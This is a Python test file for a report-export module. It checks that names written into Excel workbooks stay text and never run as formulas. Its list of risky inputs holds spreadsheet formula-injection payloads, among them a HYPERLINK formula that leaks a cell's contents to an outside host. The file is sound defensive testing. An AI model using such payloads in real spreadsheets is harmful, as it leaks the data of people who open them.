"""Issue 16, point 4: the report workbooks (a person's history, the forms, the lists)
write text that a spreadsheet would evaluate as that text, never as a formula."""

from __future__ import annotations

import io

import openpyxl
import pytest
from openpyxl import Workbook, load_workbook

from tests.conftest import Cast
from thuocdo.core.xlsx import text_cell
from thuocdo.reports.exports import person_history
from thuocdo.reports.tables import table_xlsx

RISKY = [
    '=HYPERLINK("http://x?leak="&B2,"Bấm")',
    "+cmd",
    "-2+3",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
]


@pytest.mark.parametrize("name", RISKY)
def test_a_persons_history_workbook_writes_the_name_as_text(cast: Cast, name: str) -> None:
    person = cast.person("staff_x")
    person.full_name = name  # not saved: the report only reads it
    book = load_workbook(io.BytesIO(table_xlsx(person_history(person, []))))
    # With lxml (a dependency since the signed forms) openpyxl writes a CR as `&#13;` and
    # reads it back as it was; its own writer leaves it raw and XML readers make it LF.
    read = name if openpyxl.LXML else name.replace("\r", "\n")
    found = [
        cell
        for row in book.worksheets[0].iter_rows()
        for cell in row
        if isinstance(cell.value, str) and read in cell.value
    ]
    exact = [cell for cell in found if cell.value == read]
    assert exact, [cell.value for cell in found]
    assert all(cell.data_type == "s" for cell in found)


def test_text_cell_keeps_numbers_and_drops_what_xml_cannot_hold() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    assert text_cell(sheet, 1, 1, 2).data_type == "n"
    assert text_cell(sheet, 1, 2, "=1+1").data_type == "s"
    assert text_cell(sheet, 1, 3, "a\x00b").value == "ab"
    buffer = io.BytesIO()
    book.save(buffer)
    again = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert again is not None
    assert (again["A1"].value, again["B1"].value, again["B1"].data_type) == (2, "=1+1", "s")
